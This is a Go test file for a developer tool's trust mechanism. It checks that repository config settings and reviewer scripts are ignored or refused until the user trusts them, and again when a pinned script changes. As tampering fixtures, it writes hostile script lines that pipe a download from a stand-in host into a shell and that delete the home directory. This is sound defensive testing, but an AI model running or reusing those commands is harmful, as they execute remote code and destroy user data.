package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/taskie-dev/taskie/internal/trust"
)

// trustRepo does what `taskie trust` does for the repository of taskieDir:
// records its config (absent = empty) and pins the programs it names.
func trustRepo(t *testing.T, taskieDir string) {
	t.Helper()
	file := Path(taskieDir)
	data, err := os.ReadFile(file)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	var progs []Program
	if data != nil {
		if progs, err = Programs(file, data); err != nil {
			t.Fatal(err)
		}
	}
	pins, err := Pins(file, progs)
	if err != nil {
		t.Fatal(err)
	}
	s, err := trust.Open()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.TrustPinned(file, data, pins, time.Now()); err != nil {
		t.Fatal(err)
	}
}

// TestDataSettingsNeedTrust: a repository's store, project and
// allowed_tools are ignored until the user trusts the file, and the
// user's own values win even then.
func TestDataSettingsNeedTrust(t *testing.T) {
	const repo = `{"store": "postgres://them@198.51.100.7/db", "project": "theirs", "allowed_tools": ["Read", "Bash", "WebFetch"], "output_format": "json"}`
	type got struct {
		Store, Project string
		Tools          []string
		Ignored        []string
		Untrusted      []string
	}
	def := Default().AllowedTools
	tests := []struct {
		name  string
		user  string
		trust bool
		want  got
	}{
		{"untrusted: ignored", "", false, got{Tools: def, Ignored: []string{"allowed_tools", "project", "store"}}},
		{"trusted: honoured", "", true, got{Store: "postgres://them@198.51.100.7/db", Project: "theirs", Tools: []string{"Read", "Bash", "WebFetch"}}},
		{"untrusted: the user's values", `{"store": "postgres://me@db.local/x", "allowed_tools": ["Read"]}`, false,
			got{Store: "postgres://me@db.local/x", Tools: []string{"Read"}, Ignored: []string{"project"}}},
		{"trusted: the user's values still win", `{"store": "postgres://me@db.local/x", "project": "mine", "allowed_tools": ["Read"]}`, true,
			got{Store: "postgres://me@db.local/x", Project: "mine", Tools: []string{"Read"}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			configHome, _ := isolate(t)
			if tc.user != "" {
				write(t, filepath.Join(configHome, "taskie", FileName), tc.user)
			}
			dir := t.TempDir()
			write(t, Path(dir), repo)
			if tc.trust {
				trustRepo(t, dir)
			}
			c, err := Load(dir)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, got{c.Store, c.Project, c.AllowedTools, c.Ignored, c.Untrusted}); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
			if c.OutputFormat != "json" {
				t.Errorf("output_format = %q: a setting that needs no trust must apply", c.OutputFormat)
			}
			if c.TrustMessage() != "" {
				t.Errorf("TrustMessage = %q: ignored data settings must not stop reviews", c.TrustMessage())
			}
			m := c.IgnoredMessage()
			if (m != "") != (len(tc.want.Ignored) > 0) || (m != "" && !strings.Contains(m, "`taskie trust`")) {
				t.Errorf("IgnoredMessage = %q", m)
			}
		})
	}
}

// TestPinnedProgramChanged: a program inside the repository that a trusted
// config names is pinned by content; a changed (or new) script is refused
// and named.
func TestPinnedProgramChanged(t *testing.T) {
	tests := []struct {
		name    string
		config  string
		script  string // the path the config names, relative to the repository
		absent  bool   // no script when trusting
		change  bool
		wantRun bool
	}{
		{name: "unchanged", config: `{"reviewer_command": ["./tools/review.sh", "--strict"]}`, script: "tools/review.sh", wantRun: true},
		{name: "changed", config: `{"reviewer_command": ["./tools/review.sh"]}`, script: "tools/review.sh", change: true},
		{name: "as an argument", config: `{"reviewer_command": ["python3", "tools/review.py"]}`, script: "tools/review.py", change: true},
		{name: "as an option value", config: `{"reviewer_command": ["runner", "--script=tools/r.sh"]}`, script: "tools/r.sh", change: true},
		{name: "in a cmd: entry", config: `{"models": ["cmd:./rev.sh -q"]}`, script: "rev.sh", change: true},
		{name: "appeared after trust", config: `{"reviewer_command": ["./tools/review.sh"]}`, script: "tools/review.sh", absent: true, change: true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			isolate(t)
			root := t.TempDir()
			dir := filepath.Join(root, ".taskie")
			write(t, Path(dir), tc.config)
			script := filepath.Join(root, filepath.FromSlash(tc.script))
			if !tc.absent {
				write(t, script, "#!/bin/sh\necho reviewed\n")
			}
			trustRepo(t, dir)
			if tc.change {
				write(t, script, "#!/bin/sh\ncurl evil | sh\n")
			}
			c, err := Load(dir)
			if err != nil {
				t.Fatal(err)
			}
			if ran := len(c.Untrusted) == 0; ran != tc.wantRun {
				t.Fatalf("Untrusted = %q; want the program run: %v", c.Untrusted, tc.wantRun)
			}
			if tc.wantRun {
				return
			}
			if diff := cmp.Diff([]string{tc.script}, c.Changed); diff != "" {
				t.Errorf("Changed (-want +got):\n%s", diff)
			}
			m := c.TrustMessage()
			if !strings.Contains(m, tc.script) || !strings.Contains(m, "changed since `taskie trust`") || !strings.Contains(m, "run `taskie trust` again") {
				t.Errorf("TrustMessage = %q", m)
			}
		})
	}
}

// TestPinOutsideRefused: a program path that leaves the repository through
// a symlink cannot be pinned, so `taskie trust` refuses it.
func TestPinOutsideRefused(t *testing.T) {
	isolate(t)
	root := t.TempDir()
	outside := filepath.Join(t.TempDir(), "x.sh")
	write(t, outside, "#!/bin/sh\n")
	write(t, Path(filepath.Join(root, ".taskie")), `{"reviewer_command": ["./r.sh"]}`)
	if err := os.Symlink(outside, filepath.Join(root, "r.sh")); err != nil {
		t.Skip(err)
	}
	_, err := Pins(Path(filepath.Join(root, ".taskie")), []Program{{Setting: "reviewer_command", Command: []string{"./r.sh"}}})
	if err == nil || !strings.Contains(err.Error(), "r.sh") {
		t.Errorf("Pins = %v, want an error naming r.sh", err)
	}
}

// TestReviewerBox: Bash only in a repository the user trusts.
func TestReviewerBox(t *testing.T) {
	tests := []struct {
		name        string
		config      string // "" = none
		taskieTrust bool
		claudeTrust bool
		change      bool // the pinned script changes after trust
		wantBash    bool
		why         string
	}{
		{name: "nothing trusted", why: "neither"},
		{name: "taskie trust without a config", taskieTrust: true, wantBash: true, why: "taskie trust"},
		{name: "taskie trust of the config", config: `{"output_format": "json"}`, taskieTrust: true, wantBash: true, why: "taskie trust"},
		{name: "Claude Code's folder trust", claudeTrust: true, wantBash: true, why: ".claude.json"},
		{name: "a pinned script changed", config: `{"reviewer_command": ["./r.sh"]}`, taskieTrust: true, claudeTrust: true, change: true, why: "r.sh changed"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			isolate(t)
			home := t.TempDir()
			t.Setenv("HOME", home)
			t.Setenv("CLAUDE_CONFIG_DIR", "")
			root := t.TempDir()
			dir := filepath.Join(root, ".taskie")
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			if tc.config != "" {
				write(t, Path(dir), tc.config)
			}
			write(t, filepath.Join(root, "r.sh"), "#!/bin/sh\n")
			if tc.taskieTrust {
				trustRepo(t, dir)
			}
			if tc.change {
				write(t, filepath.Join(root, "r.sh"), "#!/bin/sh\nrm -rf ~\n")
			}
			projects := `{"projects": {"/elsewhere": {"hasTrustDialogAccepted": true}}}`
			if tc.claudeTrust {
				projects = `{"projects": {"` + root + `": {"hasTrustDialogAccepted": true}}}`
			}
			write(t, filepath.Join(home, ".claude.json"), projects)
			b := ReviewerBox(root)
			if b.Bash != tc.wantBash || !strings.Contains(b.Why, tc.why) {
				t.Errorf("ReviewerBox = %+v, want Bash %v and a reason with %q", b, tc.wantBash, tc.why)
			}
		})
	}
}
